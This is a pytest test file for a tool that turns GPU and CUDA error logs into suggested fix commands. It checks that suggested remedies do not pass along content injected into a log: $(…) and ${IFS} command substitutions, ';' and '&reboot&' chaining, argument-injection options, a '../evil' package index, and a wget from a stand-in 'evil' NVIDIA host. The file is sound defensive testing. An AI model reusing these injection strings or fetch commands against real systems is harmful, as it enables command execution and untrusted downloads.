"""A command that repeats words of a log runs nothing else, installs nothing that nobody named, and asks no foreign host."""

from __future__ import annotations

import shlex
import time

import pytest

from tests.written_logs import judged

NO_RELEASE = (
    "ERROR: Could not find a version that satisfies the requirement torch==2.4.0 (from versions: 2.5.0, 2.6.0)\n"
    "ERROR: No matching distribution found for torch==2.4.0\n"
)
OPTION_AS_ARCHIVE = (
    "dpkg: error processing archive --pre-invoke=touch${IFS}/tmp/P (--unpack):\n"
    " trying to overwrite '/x', which is also in package libnvidia-compute-535:amd64 535\n"
)
KEY_OF_ANOTHER = (
    "W: GPG error: http://evil.nvidia.com/compute/cuda/repos/wsl-ubuntu/x86_64  InRelease: The following signatures "
    "could not be verified because the public key is not available: NO_PUBKEY A4B469963BF863CC\n"
)
POSIX_BESIDE_DLL = (
    "Could not locate cudnn_ops_infer64_8.dll. Please make sure it is in your library path!\n"
    '  File "/home/me$(touch${IFS}x)/e/lib/python3.9/site-packages/jax/__init__.py", line 5, in f\n'
)
NO_DRIVER = "RuntimeError: Found no NVIDIA driver on your system.\n"


def commands(log: str) -> list[str]:
    """Commands of all remedies for a log."""
    return [remedy.command for finding in judged(log).findings for remedy in finding.remedy if remedy.command]


@pytest.mark.parametrize(
    ("log", "absent"),
    [
        (OPTION_AS_ARCHIVE, "pre-invoke"),
        ("CMake Error at $(touch${IFS}P):3 (message):\n/usr/lib/wsl/lib: libcuda.so.1: cannot open shared object file\n", "touch"),
        ("; touch P; x.cu:12:3: error: x\n/usr/lib/wsl/lib: libcuda.so.1: cannot open shared object file\n", "touch"),
        ("conflicting files\n-Syu--nvidia: /usr/lib/x exists in filesystem\n", "-Syu"),
        ("ncclSystemError: System call\nConnect to -lesh<1234> failed : No route to host\n", "-lesh"),
        ('Traceback (most recent call last):\n  File "-mhttp.server", line 1, in <module>\nSegmentation fault (core dumped)\n', "-mhttp"),
        (f"$ pip install torch==2.4.0 --extra-index-url https://storage.googleapis.com/jax-releases/../evil/simple\n{NO_RELEASE}", "evil"),
        (f"$ pip install corp-secret torch==2.4.0 --index-url https://index.example/simple\n{NO_RELEASE}", "corp-secret"),
        (f"$ pip install --timeout 1000 torch==2.4.0 --progress-bar off\n{NO_RELEASE}", "1000"),
        (f"$ pip install torch==2.4.0 numpy; python train.py\n{NO_RELEASE}", "train.py"),
        (f"I ran pip install torch==2.4.0 and it fails on my machine\n{NO_RELEASE}", "machine"),
        (f"I use docker run with the usual options and it worked before\n{NO_DRIVER}", "usual"),
        (f"$ docker run --name a pytorch/pytorch:2.1.0 $(id) x\n{NO_DRIVER}", "$(id)"),
        ("ModuleNotFoundError: No module named 'utils'\n", "utils"),
        (KEY_OF_ANOTHER, 'wget -qP "$folder" http://evil'),
    ],
)  # fmt: skip
def test_what_only_a_log_says_is_not_run(log: str, absent: str) -> None:
    assert not [command for command in commands(log) if absent in command]


@pytest.mark.parametrize(
    ("log", "word"),
    [
        ("conflicting files\nnvidia-utils: /usr/lib/x&reboot& exists in filesystem\n", "/usr/lib/x&reboot&"),
        (POSIX_BESIDE_DLL, "/home/me$(touch${IFS}x)/e/bin/python"),
    ],
)
def test_a_word_of_the_log_stays_one_word(log: str, word: str) -> None:
    repeated = [command for command in commands(log) if word in command]

    assert repeated
    assert all(word in shlex.split(command) and shlex.quote(word) in command for command in repeated)


def test_a_long_command_of_a_log_takes_no_time() -> None:
    started = time.process_time()

    judged(f"$ docker run -it {'$aaaaaaaaa' * 39};\n{NO_DRIVER}")

    assert time.process_time() - started < 10


def test_the_pod_of_the_failure_is_named_and_not_its_node() -> None:
    log = "root@gpu-node-1:/home# kubectl exec -it my-pod -- bash\nroot@my-pod-7d4b9c6f5d-x2x9z:/app# nvidia-smi\n"

    named = [command for command in commands(f"{log}Failed to initialize NVML: Unknown Error\n") if "delete pod" in command]

    assert named == ["kubectl delete pod my-pod-7d4b9c6f5d-x2x9z"]
